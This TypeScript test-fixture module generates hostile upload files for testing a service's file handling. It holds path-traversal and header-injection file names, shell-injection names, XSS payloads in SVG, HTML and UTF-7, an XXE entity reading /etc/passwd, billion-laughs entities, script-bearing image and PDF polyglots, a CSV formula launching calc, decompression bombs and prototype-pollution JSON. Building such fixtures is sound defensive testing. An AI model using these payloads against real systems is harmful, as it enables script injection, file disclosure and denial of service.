import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pdf, png } from './sampleFiles.ts'

/** A file that somebody sends to do harm: by its name, by its bytes, or by what it unfolds to. */
export interface HostileFile {
  readonly what: string
  readonly name: string
  /** What it is said to be. */
  readonly type: string
  readonly bytes: Uint8Array<ArrayBuffer>
  /** What a browser would take the bytes for, if it guessed or was told so. */
  readonly runsAs?: string
}

/** The word in every name that leads out of its folder: nothing anywhere may be called so. */
export const escapeWord = 'u1escape'

/** Files that would ask `canary` for something, or take the title `fired`, as soon as anything of them ran or was followed. */
export async function hostileFiles(canary: string): Promise<readonly HostileFile[]> {
  return [...names(), ...markup(canary), ...(await polyglots(canary)), ...(await bombs()), ...(await broken()), ...tables()]
}

/** As large as pictures may be, and to be unfolded whole before the first line of them can be drawn. */
export async function largePictures(): Promise<readonly HostileFile[]> {
  const flat = sharp({ create: { width: 6_300, height: 6_300, channels: 3, background: '#a04020' }, limitInputPixels: false })
  const turns = await flat.clone().png({ progressive: true }).toBuffer()
  const lying = await flat.clone().jpeg({ progressive: true }).withMetadata({ orientation: 6 }).toBuffer()
  return [
    as('a PNG of forty million points in seven turns', 'turns.png', 'image/png', turns),
    as('a JPEG of forty million points, lying', 'lying.jpg', 'image/jpeg', lying),
  ]
}

const bytesOf = (content: string | Uint8Array): Uint8Array<ArrayBuffer> =>
  typeof content === 'string' ? new TextEncoder().encode(content) : new Uint8Array(content)
const join = (...parts: readonly (string | Uint8Array)[]) =>
  bytesOf(Buffer.concat(parts.map((part) => Buffer.from(part as Uint8Array))))

/** A picture as good as any, under names that are none. */
function names(): HostileFile[] {
  const up = escapeWord
  return [
    `../../../${up}.png`,
    `../${up}.png`,
    `..\\..\\..\\${up}.png`,
    `/tmp/${up}.png`,
    `/${up}.png`,
    `C:\\Windows\\${up}.png`,
    `\\\\host\\share\\${up}.png`,
    `file:///tmp/${up}.png`,
    `%2e%2e%2f%2e%2e%2f${up}.png`,
    `..%252f..%252f${up}.png`,
    `..%c0%af..%c0%af${up}.png`,
    `....//....//${up}.png`,
    `.incoming/${up}.png`,
    `．．／．．／${up}.png`,
    `..∕..∕${up}.png`,
    `..⁄..⁄${up}.png`,
    `..＼..＼${up}.png`,
    `~/${up}.png`,
    'nul\0byte.png',
    'nul.png\0.html',
    'line\r\nx-injected: yes\r\n\r\n<script>.png',
    'line\nset-cookie: injected=yes.png',
    'line%0d%0ax-injected:%20yes.png',
    'quote"; x-injected="yes.png',
    "star'; filename*=UTF-8''page.html; x='.png",
    'semi;colon=x;.png',
    'line\u2028apart\u2029.png',
    'picture\u202Elmth.png',
    '\u2066picture\u2069\u200F.png',
    'zero\u200Bwidth\uFEFF.png',
    'half \uD800 of a sign.png',
    'cafe\u0301 \u{1F4A9}.png',
    'CON.png',
    'nul',
    'aux.png',
    'COM1',
    'lpt9.png',
    'CONIN$.png',
    'PRN.tar.png',
    'dots...png...',
    'blank at the end.png ',
    ' .png',
    '.',
    '..',
    '...',
    '',
    '   ',
    '.htaccess',
    '.htaccess.png',
    'web.config.png',
    'facts.json',
    'data',
    'thumb-320x320.webp',
    'stream.png::$DATA',
    'alternate:stream.png',
    'twice.php.png',
    'twice.png.php',
    'twice.html.png',
    'twice.png.html',
    'twice.png.svg',
    'program.png.exe',
    '<script>alert(1)</script>.png',
    '"><img src=x onerror=alert(1)>.png',
    '$(touch u1).png',
    '`touch u1`;|&.png',
    '-rf *.png',
    `${'long'.repeat(75)}.png`,
    `${'長'.repeat(80)}.png`,
    `name.${'png'.repeat(30)}`,
  ].map((name) => ({ what: `the name ${JSON.stringify(name.slice(0, 60))}`, name, type: 'image/png', bytes: png }))
}

/** What a page or a drawing does where it is taken for one. */
const acts = (canary: string) => `document.title='fired';new Image().src='${canary}/ran'`

/** Pages and drawings, under their own type and under others. */
function markup(canary: string): HostileFile[] {
  const run = acts(canary)
  const xmlns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
  const drawings: Readonly<Record<string, string>> = {
    'a drawing with a script': `<svg ${xmlns}><script>${run}</script></svg>`,
    'a drawing with a handler': `<svg ${xmlns} onload="${run}"><rect width="9" height="9"/></svg>`,
    'a drawing with a page in it': `<svg ${xmlns}><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run}"/></body></foreignObject></svg>`,
    'a drawing that asks elsewhere': `<svg ${xmlns}><image href="${canary}/ran" width="9" height="9"/><style>@import url(${canary}/ran);</style></svg>`,
    'a drawing that moves': `<svg ${xmlns}><a><set attributeName="href" to="javascript:1"/><animate onbegin="${run}" attributeName="x" dur="1s"/></a></svg>`,
    'a drawing behind a declaration': `<?xml version="1.0" encoding="UTF-8"?><!-- a --><!DOCTYPE svg><svg ${xmlns} onload="${run}"/>`,
    'a drawing that laughs': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${[...'bcdefghij'].map((one, i) => `<!ENTITY ${one} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]><svg ${xmlns}><text>&j;</text></svg>`,
    'a drawing that reads files': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg ${xmlns}><text>&f;</text></svg>`,
  }
  const pages: Readonly<Record<string, readonly [type: string, content: string | Uint8Array]>> = {
    'a page': ['text/html', `<!doctype html><title>page</title><script>${run}</script>`],
    'a page in capitals': ['text/html', `\n <HTML><BODY ONLOAD="${run}">`],
    'a page behind a comment': ['text/html', `<!-- ${'x'.repeat(600)} --><img src=x onerror="${run}">`],
    'a page in UTF-16': ['text/html', Buffer.from(`\uFEFF<script>${run}</script>`, 'utf16le')],
    'a page in UTF-7': ['text/html', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
    'a page in XML': [
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${run}</script></head></html>`,
    ],
    'XML with a style that writes pages': [
      'text/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/ran"?><a><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></a>`,
    ],
    'an archive of a page': [
      'multipart/related',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type="text/html"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>\r\n--x--\r\n`,
    ],
    'a script': ['text/javascript', run],
    'a style': ['text/css', `body{background:url(${canary}/ran)}@import url(${canary}/ran);`],
  }
  const drawn = Object.entries(drawings).flatMap(([what, content]) => [
    as(what, 'drawing.svg', 'image/svg+xml', content, 'image/svg+xml'),
    as(`${what}, called a picture`, 'drawing.png', 'image/png', content, 'image/svg+xml'),
  ])
  const written = Object.entries(pages).flatMap(([what, [type, content]]) => [
    as(what, 'page.html', type, content, type),
    as(`${what}, called a picture`, 'page.jpg', 'image/jpeg', content, type),
    as(`${what}, called text`, 'page.txt', 'text/plain', content, type),
  ])
  return [
    ...drawn,
    ...written,
    as('a page, called a document', 'page.pdf', 'application/pdf', `<script>${run}</script>%PDF-1.4`, 'text/html'),
    as('a page, called a table', 'page.csv', 'text/csv', `<script>${run}</script>,b\n1,2\n`, 'text/html'),
    as('a page, called data', 'page.json', 'application/json', `{"a":"<script>${run}</script>"}`, 'text/html'),
    as('a drawing, called text', 'drawing.md', 'text/markdown', drawings['a drawing with a handler']!, 'image/svg+xml'),
  ]
}

function as(what: string, name: string, type: string, content: string | Uint8Array, runsAs?: string): HostileFile {
  return { what, name, type, bytes: bytesOf(content), ...(runsAs && { runsAs }) }
}

/** Files that are two things at once, and say the harmless one. */
async function polyglots(canary: string): Promise<HostileFile[]> {
  const run = acts(canary)
  const page = `<!doctype html><script>${run}</script>`
  // The width of the picture is the beginning of a comment.
  const gif = join(
    'GIF89a/*',
    Uint8Array.of(1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255),
    Uint8Array.of(0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b),
    `*/=1;${run}`,
  )
  const drawn = sharp({ create: { width: 8, height: 8, channels: 3, background: '#a04020' } })
  const [jpeg, webp] = [await drawn.jpeg().toBuffer(), await drawn.webp().toBuffer()]
  const withExif = await drawn
    .jpeg()
    .withExif({ IFD0: { ImageDescription: page, Copyright: '"><svg onload=alert(1)>', Software: `=cmd|' /C calc'!A0` } })
    .toBuffer()
  const withXmp = await drawn.png().withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><![CDATA[${page}]]></x:xmpmeta>`).toBuffer()
  const commented = join(
    jpeg.subarray(0, 2),
    Uint8Array.of(0xff, 0xfe, (page.length + 2) >> 8, (page.length + 2) & 255),
    page,
    jpeg.subarray(2),
  )
  const acting = pdf.slice(0, -6)
  return [
    as('a GIF that is a script', 'moves.gif', 'image/gif', gif, 'text/javascript'),
    as('a GIF that is a script, called a script', 'moves.js', 'text/javascript', gif, 'text/javascript'),
    as('a PNG with a page behind it', 'shot.png', 'image/png', join(png, page), 'text/html'),
    as('a PNG with a page in its words', 'shot.png', 'image/png', withChunk('tEXt', `Comment\0${page}`), 'text/html'),
    as(
      'a PNG with a page in its words, called a page',
      'shot.html',
      'text/html',
      withChunk('tEXt', `Comment\0${page}`),
      'text/html',
    ),
    as('a PNG with a page in its rights', 'shot.png', 'image/png', withXmp, 'text/html'),
    as('a JPEG with a page in its comment', 'photo.jpg', 'image/jpeg', commented, 'text/html'),
    as('a JPEG with a page behind it', 'photo.jpeg', 'image/jpeg', join(jpeg, page), 'text/html'),
    as('a JPEG with a page in its facts', 'photo.jpg', 'image/jpeg', withExif, 'text/html'),
    as('a WebP with a page behind it', 'photo.webp', 'image/webp', join(webp, page), 'text/html'),
    ...['256x256', '320x320', '512x512'].map((size) =>
      as(
        `a WebP with a page behind it, called like small pictures are (${size})`,
        `thumb-${size}.webp`,
        'image/webp',
        join(webp, page),
      ),
    ),
    as('a JPEG with an archive behind it', 'photo.jpg', 'image/jpeg', join(jpeg, zip({ 'run.html': page }))),
    as('a document that is an archive', 'paper.pdf', 'application/pdf', join(pdf, zip({ 'run.html': page }))),
    as('an archive that is a document', 'paper.zip', 'application/zip', join(zip({ 'run.html': page }), pdf)),
    as('a document that is a page', 'paper.pdf', 'application/pdf', join(pdf, page), 'text/html'),
    as(
      'a document that acts',
      'paper.pdf',
      'application/pdf',
      join(acting, `2 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.launchURL\\('${canary}/ran'\\)) >> >>\nendobj\n%%EOF\n`),
    ),
    as('a program called a picture', 'photo.png', 'image/png', join('MZ', new Uint8Array(64))),
    as(
      'an office paper with macros',
      'paper.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      zip({ '[Content_Types].xml': '<Types/>', 'word/vbaProject.bin': 'Sub AutoOpen()' }),
    ),
  ]
}

/** Files that are small until somebody unfolds them, or that say they are large. */
async function bombs(): Promise<HostileFile[]> {
  const zeros = Buffer.alloc(32 * 1024 * 1024)
  const sheet = zip({ '[Content_Types].xml': '<Types/>', 'xl/worksheets/sheet1.xml': zeros })
  const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
  const claimed = png.slice() as Uint8Array<ArrayBuffer>
  new DataView(claimed.buffer).setUint32(16, 50_000)
  new DataView(claimed.buffer).setUint32(20, 50_000)
  new DataView(claimed.buffer).setUint32(29, crc32(claimed.subarray(12, 29)))
  const dot = sharp({ create: { width: 8, height: 8, channels: 3, background: '#a04020' } })
  const jpeg = await dot.jpeg().toBuffer()
  const frame = jpeg.indexOf(Uint8Array.of(0xff, 0xc0))
  jpeg.writeUInt16BE(50_000, frame + 5)
  jpeg.writeUInt16BE(50_000, frame + 7)
  const gif = await dot.gif().toBuffer()
  gif.writeUInt16LE(50_000, 6)
  gif.writeUInt16LE(50_000, 8)
  const avif = await dot.avif({ effort: 0 }).toBuffer()
  const size = avif.indexOf('ispe')
  avif.writeUInt32BE(50_000, size + 8)
  avif.writeUInt32BE(50_000, size + 12)
  const canvas = Buffer.alloc(10)
  canvas.writeUIntLE(49_999, 4, 3)
  canvas.writeUIntLE(49_999, 7, 3)
  const still = (await dot.webp().toBuffer()).subarray(12)
  const webp = Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0', 'latin1'), canvas, still])
  webp.writeUInt32LE(webp.length - 8, 4)
  return [
    as('a table that unfolds', 'rows.xlsx', xlsx, sheet),
    as('a table that unfolds, called CSV', 'rows.csv', 'text/csv', sheet),
    as('a packed table', 'rows.csv.gz', 'application/gzip', gzipSync(zeros)),
    as('a packed table, called CSV', 'rows.csv', 'text/csv', gzipSync(zeros)),
    as('an archive of archives', 'all.zip', 'application/zip', zip({ 'one.zip': sheet, 'two.zip': sheet, '../../run.sh': 'x' })),
    as('a PNG of 50,000 × 50,000', 'large.png', 'image/png', claimed),
    as('a JPEG of 50,000 × 50,000', 'large.jpg', 'image/jpeg', jpeg),
    as('a GIF of 50,000 × 50,000', 'large.gif', 'image/gif', gif),
    as('a WebP of 50,000 × 50,000', 'large.webp', 'image/webp', webp),
    as('an AVIF of 50,000 × 50,000', 'large.avif', 'image/avif', avif),
    as('a PNG whose words unfold', 'words.png', 'image/png', withChunk('zTXt', join('Comment\0\0', deflateSync(zeros)))),
    as('a PNG whose colours unfold', 'colours.png', 'image/png', withChunk('iCCP', join('icc\0\0', deflateSync(zeros)))),
  ]
}

/** Pictures that end before they are over, or whose parts contradict each other. */
async function broken(): Promise<HostileFile[]> {
  const drawn = sharp({
    create: { width: 64, height: 64, channels: 3, background: '#a04020', noise: { type: 'gaussian', mean: 128, sigma: 30 } },
  })
  const cut = async (what: string, type: string, whole: Promise<Buffer>) => {
    const bytes = await whole
    const name = `half.${type.slice(6)}`
    return as(`half a ${what}`, name, type, bytes.subarray(0, bytes.length / 2))
  }
  const wrongSum = png.slice()
  wrongSum[29]! ^= 255
  return [
    await cut('PNG', 'image/png', drawn.clone().png().toBuffer()),
    await cut('JPEG', 'image/jpeg', drawn.clone().jpeg().toBuffer()),
    await cut('GIF', 'image/gif', drawn.clone().gif().toBuffer()),
    await cut('WebP', 'image/webp', drawn.clone().webp().toBuffer()),
    as('a PNG whose sum is wrong', 'sum.png', 'image/png', wrongSum),
    as('a PNG called a JPEG', 'other.jpg', 'image/jpeg', png),
    as('nothing', 'nothing.png', 'image/png', ''),
    as('one byte', 'one.png', 'image/png', Uint8Array.of(0x89)),
  ]
}

/** Tables that are meant for whoever reads them in. */
function tables(): HostileFile[] {
  const csv = (what: string, content: string | Uint8Array) => as(what, 'rows.csv', 'text/csv', content)
  const json = (what: string, content: string) => as(what, 'rows.json', 'application/json', content)
  return [
    csv('columns that objects have a meaning for', '__proto__,constructor,toString,name\na,b,c,d\n'),
    csv('a hundred thousand columns', `${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\n`),
    csv('a quote that is never closed', `name\n"${'x'.repeat(3_000_000)}`),
    csv('a line of eight megabytes', 'x'.repeat(8_000_000)),
    csv('zeros among the letters', 'name\na\0b\n'),
    csv('letters that are none', Uint8Array.of(0x6e, 0x0a, 0xff, 0xfe, 0xc0, 0xaf, 0x0a)),
    json('a million brackets', '['.repeat(1_000_000)),
    json('a million braces', '{"a":'.repeat(200_000)),
    json('objects that change others', '[{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}]'),
    json('a number without end', `[{"name":${'9'.repeat(500_000)}}]`),
  ]
}

/** The picture with one more piece in front of its end. */
function withChunk(kind: string, content: string | Uint8Array): Uint8Array<ArrayBuffer> {
  const body = join(kind, content)
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(body.length - 4)
  sum.writeUInt32BE(crc32(body))
  // Behind the header, where colours have to stand.
  return join(png.subarray(0, 33), length, body, sum, png.subarray(33))
}

/** An archive of these files. */
function zip(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array<ArrayBuffer> {
  const [locals, entries]: [Uint8Array[], Uint8Array[]] = [[], []]
  let at = 0
  for (const [name, content] of Object.entries(files)) {
    const whole = bytesOf(content)
    const packed = deflateRawSync(whole)
    const values = Buffer.alloc(26)
    values.writeUInt16LE(20, 0)
    values.writeUInt16LE(8, 4)
    values.writeUInt32LE(crc32(whole), 10)
    values.writeUInt32LE(packed.length, 14)
    values.writeUInt32LE(whole.length, 18)
    values.writeUInt16LE(name.length, 22)
    const offset = Buffer.alloc(14)
    offset.writeUInt32LE(at, 10)
    const local = join('PK\x03\x04', values, name, packed)
    locals.push(local)
    entries.push(join('PK\x01\x02', Uint8Array.of(20, 0), values, offset, name))
    at += local.length
  }
  const directory = join(...entries)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(directory.length, 8)
  end.writeUInt32LE(at, 12)
  return join(...locals, directory, 'PK\x05\x06', end)
}
